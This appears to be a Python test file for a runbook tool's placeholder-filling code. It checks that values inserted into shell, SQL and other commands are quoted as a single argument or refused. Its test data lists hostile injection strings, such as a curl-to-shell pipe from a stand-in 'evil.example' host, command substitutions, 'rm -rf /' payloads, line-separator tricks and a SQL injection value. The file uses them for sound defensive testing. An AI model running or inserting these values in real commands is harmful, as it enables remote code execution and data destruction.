"""What a fill-in value may be, and how it goes into a command: generator/assets/fill.js (run by
node), judged by a real bash that runs nothing (tests/shell_oracle.py).

A value fills a placeholder only as one argument that means what it says: the commands bash
would run of the filled command are those of the command with that value as the very text of
its placeholder, or the value is refused and the placeholder stays.
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Iterator

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from generator.core.fill import SHELL_LANGUAGES, kind_of
from generator.core.validate import default_variable_pattern
from tests.conftest import ROOT
from tests.fill_js import FillJS
from tests.shell_oracle import PRIVATE, same_meaning

# The values the issue names, which the browser tests give every variable of every page.
ISSUE_VALUES = [
    "x; curl -s evil.example | sh #",
    "x$(id)",
    "x`id`",
    "x && rm -rf / #",
    "x\nrm -rf /",
    "x\u2028rm -rf /",
    "-rf",
    "x' ; id ; '",
    "x" * 5000,
]
HOSTILE = [
    *ISSUE_VALUES,
    'x" ; id ; "',
    "x\\",
    "$HOME",
    "x\u202eevil",
    "x\u0085rm",
    "x\rrm",
    "~root",
    "=ls",
    "*",
]
WIDE = {"name": "v", "pattern": "^.{1,2000}$", "values": None}
DEFAULT = {"name": "v", "pattern": default_variable_pattern(), "values": None}
# A command with the placeholder <v> in each place a shell reads differently.
SHELL_PLACES = [
    "echo pre<v>post",
    "echo <v>",
    'echo "pre <v> post"',
    "echo 'pre <v> post'",
    "echo $(get <v>)",
    'echo "$(get "<v>")"',
    "cat <<EOF\nnote: <v>\nEOF",
    "cat <<'EOF'\nnote: <v>\nEOF",
    "cat <<-END\n\tnote: <v>\n\tEND",
    "echo ok  # <v>",
    "kubectl -n <v> get pods | grep <v>",
    "echo a && echo '<v>' || echo \"<v>\"",
]


@pytest.fixture(scope="module")
def js() -> Iterator[FillJS]:
    bridge = FillJS()
    yield bridge
    bridge.close()


def fill(js: FillJS, text: str, value: str, language: str = "bash") -> dict[str, object]:
    result: dict[str, object] = js.call("fill", text, language, ["v"], {"v": value}, {})
    return result


def test_shell_languages_are_those_of_the_page() -> None:
    source = (ROOT / "generator" / "assets" / "fill.js").read_text(encoding="utf-8")
    listed = re.search(r"var SHELL = \[([^\]]*)\]", source)
    assert listed is not None
    assert set(re.findall(r'"([^"]*)"', listed.group(1))) == SHELL_LANGUAGES
    assert [kind_of(x) for x in ("bash", "sql", "text", "promql")] == [
        "shell",
        "code",
        "prose",
        "code",
    ]


@pytest.mark.parametrize("value", HOSTILE, ids=range(len(HOSTILE)))
def test_default_pattern_refuses_every_hostile_value(js: FillJS, value: str) -> None:
    assert js.call("check", DEFAULT, value) != ""


@pytest.mark.parametrize(
    "value", ["payments", "api-7d9f-x1", "10.0.0.1:5432", "eu-west-1", "Q1Y2Z3", "a=b", "x_y.z/w"]
)
def test_default_pattern_accepts_everyday_values(js: FillJS, value: str) -> None:
    assert js.call("check", DEFAULT, value) == ""
    assert fill(js, "kubectl -n <v> get pods", value)["text"] == f"kubectl -n {value} get pods"


def test_check_says_why(js: FillJS) -> None:
    assert js.call("check", WIDE, "x\ny") == "it holds a line break (U+000A)"
    assert js.call("check", WIDE, "x\u2028y") == "it holds a line break (U+2028)"
    assert js.call("check", WIDE, "x\u202ey") == "it holds an invisible control character (U+202E)"
    assert js.call("check", WIDE, "x" * 1001) == "it is longer than 1000 characters"
    assert js.call("check", DEFAULT, "a b").startswith("it must match ^")
    listed = {"name": "v", "pattern": "", "values": ["payments", "checkout"]}
    assert js.call("check", listed, "refunds") == "it must be one of: payments, checkout"
    assert js.call("check", listed, "checkout") == ""
    broken = {"name": "v", "pattern": "^[a-", "values": None}
    assert "not a valid regular expression" in js.call("check", broken, "a")
    assert js.call("check", DEFAULT, "") == ""  # nothing to fill, nothing refused


def test_pattern_must_match_the_whole_value(js: FillJS) -> None:
    # An unanchored pattern (the page's old search) let `x; rm` through `[a-z]+`.
    assert js.call("check", {"name": "v", "pattern": "[a-z]+", "values": None}, "x; rm") != ""
    assert js.call("check", {"name": "v", "pattern": "a|b", "values": None}, "ab") != ""


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(st.text())
def test_shell_quote_is_one_word(value: str) -> None:
    quoted = "'" + value.replace("'", "'\\''") + "'"
    assert shlex.split(quoted) == [value]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(min_size=1, max_size=40))
def test_shell_quote_of_the_page_is_one_word(value: str) -> None:
    bridge = _shared()
    quoted = bridge.call("shellQuote", value)
    assert shlex.split(quoted) == [value]
    assert quoted == "'" + value.replace("'", "'\\''") + "'"


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.from_regex(default_variable_pattern(), fullmatch=True).filter(lambda s: len(s) < 200))
def test_a_default_value_is_read_as_itself_outside_quotes(value: str) -> None:
    bridge = _shared()
    assert bridge.call("render", value, "shell", "plain") == value  # written as it is
    assert same_meaning("echo pre<v>post", f"echo pre{value}post", ["v"], {"v": value}) == ""


# Any value the page lets through (no line break or control character), in every place.
FILLABLE = st.text(
    st.characters(
        blacklist_categories=("Cc", "Cs"),
        blacklist_characters="\u2028\u2029\u0085" + PRIVATE,  # the oracle's own characters
    ),
    min_size=1,
    max_size=30,
).filter(lambda s: not re.search("[\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]", s))


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(FILLABLE, st.sampled_from(SHELL_PLACES))
def test_a_filled_value_is_one_argument_that_means_what_it_says(value: str, command: str) -> None:
    bridge = _shared()
    assert bridge.call("check", WIDE, value) == ""
    result = fill(bridge, command, value)
    assert result["refused"] == []
    assert same_meaning(command, str(result["text"]), ["v"], {"v": value}) == ""


@pytest.mark.parametrize("command", SHELL_PLACES)
@pytest.mark.parametrize("value", [v for v in HOSTILE if "\n" not in v and len(v) < 100])
def test_hostile_values_in_every_place(js: FillJS, command: str, value: str) -> None:
    if js.call("check", WIDE, value):
        return  # refused whatever the pattern: never filled
    result = fill(js, command, value)
    assert result["refused"] == []
    assert same_meaning(command, str(result["text"]), ["v"], {"v": value}) == ""


@pytest.mark.parametrize("command", ["echo `echo <v>`", "echo $'<v>'"])
def test_where_no_quoting_helps_a_value_that_needs_it_is_refused(js: FillJS, command: str) -> None:
    result = fill(js, command, "x; rm -rf /")
    assert result["text"] == command
    assert result["refused"] == [
        {"name": "v", "reason": "it cannot be written safely at this place of the command"}
    ]
    assert fill(js, command, "payments")["text"] == command.replace("<v>", "payments")


def test_a_refused_value_leaves_the_whole_command_unfilled(js: FillJS) -> None:
    text = "kubectl -n <ns> logs <pod>"
    result = js.call("fill", text, "bash", ["ns", "pod"], {"ns": "payments"}, {"pod": "no"})
    assert result["text"] == text  # never half-filled
    assert result["pieces"] == ["<ns>", "<pod>"]


def test_console_prompts_and_output(js: FillJS) -> None:
    text = '$ kubectl get ns <v>\nnamespace/<v> \'Active\n$ echo "<v>"'
    result = fill(js, text, "it's", language="console")
    assert result["text"] == (
        "$ kubectl get ns 'it'\\''s'\nnamespace/it's 'Active\n$ echo \"it's\""
    )
    assert js.call("commandOnly", result["text"]) == "kubectl get ns 'it'\\''s'\necho \"it's\""


@pytest.mark.parametrize("language", ["sql", "python", "json", "yaml", "powershell"])
def test_other_code_refuses_quotes_and_backslashes(js: FillJS, language: str) -> None:
    text = "SELECT * FROM t WHERE a = '<v>';"
    for value in ("x' OR '1'='1", 'x"', "x`", "x\\"):
        result = fill(js, text, value, language=language)
        assert result["text"] == text and result["refused"], value
    assert fill(js, text, "eu-west-1", language=language)["text"] == text.replace(
        "<v>", "eu-west-1"
    )


def test_text_takes_the_value_as_it_is(js: FillJS) -> None:
    text = 'Status: <v> (posted by "x")'
    assert (
        fill(js, text, 'it\'s "bad"', language="text")["text"]
        == 'Status: it\'s "bad" (posted by "x")'
    )


_BRIDGE: list[FillJS] = []


def _shared() -> FillJS:
    """One node process for the property tests (hypothesis runs them outside fixtures)."""
    if not _BRIDGE:
        _BRIDGE.append(FillJS())
    return _BRIDGE[0]


@pytest.mark.parametrize("spelling", ["{{v}}", "{{ v }}"])
@pytest.mark.parametrize("command", SHELL_PLACES)
def test_braces_fill_as_angle_brackets_do(js: FillJS, command: str, spelling: str) -> None:
    """`{{v}}` and `{{ v }}` (as many runbooks write them) are the same placeholder as `<v>`:
    filled by the same rule, so what the tests above prove of `<v>` holds of them."""
    for value in ["payments", "it's", "x; rm -rf /", "$(id)", "a b"]:
        braced = fill(js, command.replace("<v>", spelling), value)
        angled = fill(js, command, value)
        assert braced["refused"] == angled["refused"]
        assert braced["text"] == angled["text"]


def test_braces_of_other_templates_are_left_alone(js: FillJS) -> None:
    text = "kubectl get pod {{v}} -o go-template='{{.status.phase}}' && echo {{ other }} {{  v  }}"
    result = fill(js, text, "payments")
    assert result["text"] == (
        "kubectl get pod payments -o go-template='{{.status.phase}}' && echo {{ other }} {{  v  }}"
    )
